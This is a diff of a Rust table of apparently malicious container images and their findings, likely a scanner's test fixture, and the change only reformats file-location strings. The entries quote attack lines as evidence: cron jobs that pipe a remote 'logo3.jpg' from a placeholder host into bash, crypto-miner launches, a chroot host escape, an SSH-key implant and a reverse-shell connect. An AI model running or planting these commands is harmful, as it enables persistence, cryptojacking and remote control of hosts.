@@ -47,7 +47,7 @@ const LINEUP: [Row; 17] = [
         &[(
             HostCron,
             "* * * * * root curl -fsSL http://203.0.113.66:8220/logo3.jpg | bash",
-            "/usr/bin/cron.sh line 4",
+            "usr/bin/cron.sh:4",
         )],
     ),
     (
@@ -57,15 +57,11 @@ const LINEUP: [Row; 17] = [
         42_001,
         "cron with mail",
         &[
-            (
-                HostCron,
-                "cp -f /var/spool/cron/crontabs/root /mnt/var/spool/cron/crontabs/root",
-                "/start line 2",
-            ),
+            (HostCron, "cp -f /var/spool/cron/crontabs/root /mnt/var/spool/cron/crontabs/root", "start:2"),
             (
                 Cron,
                 "* * * * * curl -fsSL http://203.0.113.66:8220/logo3.jpg | bash",
-                "/var/spool/cron/crontabs/root line 1",
+                "var/spool/cron/crontabs/root:1",
             ),
         ],
     ),
@@ -92,11 +88,7 @@ const LINEUP: [Row; 17] = [
         10_322,
         "kk",
         &[
-            (
-                MinerInPlace,
-                "/app/libcrypto.so.1 -o stratum+tcp://xmr.pool-eu.test:4444",
-                "/app/main.py line 9",
-            ),
+            (MinerInPlace, "/app/libcrypto.so.1 -o stratum+tcp://xmr.pool-eu.test:4444", "app/main.py:9"),
             (Deception, "a program under the name of a library", "/app/libcrypto.so.1"),
         ],
     ),
@@ -106,7 +98,7 @@ const LINEUP: [Row; 17] = [
         "2024-11-19T20:50:00Z",
         1_402_390,
         "MySQL is a widely used, open-source relational database management system (RDBMS).",
-        &[(HostCron, CRON, "/etc.sh line 4"), (Deception, "no MySQL in it", "the name mysql")],
+        &[(HostCron, CRON, "etc.sh:4"), (Deception, "no MySQL in it", "the name mysql")],
     ),
     (
         "mysql0",
@@ -118,9 +110,9 @@ const LINEUP: [Row; 17] = [
             (
                 HostCron,
                 "(crontab -l 2>/dev/null; echo \"*/1 * * * * wget -q -O - http://203.0.113.66:8220/logo3.jpg | sh\") | crontab -",
-                "/run.sh line 3",
+                "run.sh:3",
             ),
-            (Escape, "chroot /hostroot /bin/bash -c", "/run.sh line 3"),
+            (Escape, "chroot /hostroot /bin/bash -c", "run.sh:3"),
         ],
     ),
     (
@@ -137,7 +129,7 @@ const LINEUP: [Row; 17] = [
         "2025-01-08T22:09:55Z",
         880_123,
         "MySQL server",
-        &[(MinerInPlace, "nohup ./atd -o xmr.pool-eu.test:4444", "/usr/local/bin/start.sh line 4")],
+        &[(MinerInPlace, "nohup ./atd -o xmr.pool-eu.test:4444", "usr/local/bin/start.sh:4")],
     ),
     (
         "mysql4",
@@ -154,8 +146,8 @@ const LINEUP: [Row; 17] = [
         501_233,
         "MySQL 5",
         &[
-            (MinerInPlace, "./kworker -c config.json", "/opt/init.sh line 3"),
-            (Hiding, "unpacked into /dev/shm/.x under the name of a kernel thread", "/opt/init.sh line 2"),
+            (MinerInPlace, "./kworker -c config.json", "opt/init.sh:3"),
+            (Hiding, "unpacked into /dev/shm/.x under the name of a kernel thread", "opt/init.sh:2"),
         ],
     ),
     (
@@ -165,8 +157,8 @@ const LINEUP: [Row; 17] = [
         301_999,
         "MySQL 6",
         &[
-            (HostCron, CRON, "/usr/local/bin/.sysinit.sh line 7"),
-            (SshKey, "cat >> /mnt/root/.ssh/authorized_keys", "/docker-entrypoint.sh line 3"),
+            (HostCron, CRON, "usr/local/bin/.sysinit.sh:7"),
+            (SshKey, "cat >> /mnt/root/.ssh/authorized_keys", "docker-entrypoint.sh:3"),
         ],
     ),
     (
@@ -183,7 +175,7 @@ const LINEUP: [Row; 17] = [
         "2024-07-21T05:00:00Z",
         997,
         "test python",
-        &[(ReverseShell, "s.connect((\"203.0.113.66\", 8221))", "/srv/app.py line 4")],
+        &[(ReverseShell, "s.connect((\"203.0.113.66\", 8221))", "srv/app.py:4")],
     ),
     (
         "tomcat",
@@ -194,7 +186,7 @@ const LINEUP: [Row; 17] = [
         &[(
             MinerInPlace,
             "./jsvc-agent -o stratum+tcp://xmr.pool-eu.test:4444",
-            "/usr/local/tomcat/bin/run-agent.sh line 5",
+            "usr/local/tomcat/bin/run-agent.sh:5",
         )],
     ),
     (
@@ -203,7 +195,7 @@ const LINEUP: [Row; 17] = [
         "2024-09-11T02:11:09Z",
         99_120,
         "Tomcat 11 preview builds.",
-        &[(MinerInPlace, "./tcnative --config=config.json", "/usr/local/tomcat/bin/start-all.sh line 2")],
+        &[(MinerInPlace, "./tcnative --config=config.json", "usr/local/tomcat/bin/start-all.sh:2")],
     ),
     (
         "tomcat22",
